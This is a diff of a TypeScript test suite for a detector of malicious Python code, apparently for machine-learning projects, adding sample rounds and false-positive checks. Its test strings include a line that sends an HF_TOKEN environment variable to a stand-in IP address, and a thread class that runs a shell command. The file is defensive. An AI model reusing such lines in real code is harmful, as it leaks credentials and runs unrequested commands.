@@ -14,13 +14,15 @@ const show = (fs: FindingDraft[]): string[] => fs.map((f) => `${f.rule} ${f.seve
 interface Entry {
   file: string;
   about: string;
+  round: number;
   expect: { rule: string; severity: Severity }[];
 }
 const manifest = JSON.parse(read('manifest.json')) as Entry[];
 
 describe('scanPythonCode on the second-wave malicious samples', () => {
-  it('has at least 30 of them', () => {
-    expect(manifest.length).toBeGreaterThanOrEqual(30);
+  it('has at least 30 of them in the first round, and a second round written after the fixes', () => {
+    expect(manifest.filter((m) => m.round === 1).length).toBeGreaterThanOrEqual(30);
+    expect(manifest.filter((m) => m.round === 2).length).toBeGreaterThanOrEqual(20);
   });
 
   it.each(manifest.map((m) => [m.file, m] as const))('%s is caught with a sensible severity', async (_f, sample) => {
@@ -102,6 +104,16 @@ describe('look-alikes in real modelling code stay quiet', () => {
     expect(payload.find((f) => f.rule === 'MG593')?.severity).toBe('critical');
     const stolen = await scan('import os, requests\nrequests.get("https://198.51.100.9/v.json", params={"t": os.environ["HF_TOKEN"]})\n');
     expect(stolen.find((f) => f.rule === 'MG592')?.severity).toBe('critical');
+  });
+
+  it('exception and type tuples, isinstance checks and plugin registries are not tables of callables', async () => {
+    const fs = await scan('import socket, requests, subprocess\n\ndef fetch(u):\n    try:\n        r = requests.get(u, timeout=3)\n    except (requests.exceptions.ConnectionError, socket.timeout, subprocess.CalledProcessError):\n        return None\n    if isinstance(r, (requests.Response,)) or isinstance(r, requests.Response):\n        return r.content\n\nclass Base:\n    @classmethod\n    def registry(cls):\n        return {c.__name__: c for c in cls.__subclasses__()}\n\nACTS = {"gelu": print, "relu": max}\n');
+    expect(worst(fs)).toBeLessThanOrEqual(RANK.low);
+  });
+
+  it('a Thread subclass nobody starts is weighed as when called', async () => {
+    const fs = await scan('import threading, subprocess\n\nclass Prefetch(threading.Thread):\n    def run(self):\n        subprocess.run(["sh", "-c", "id"])\n');
+    expect(fs.find((f) => f.rule === 'MG584')?.severity).toBe('high');
   });
 
   it('runpy of a package that is not pip stays dynamic code, not an install', async () => {
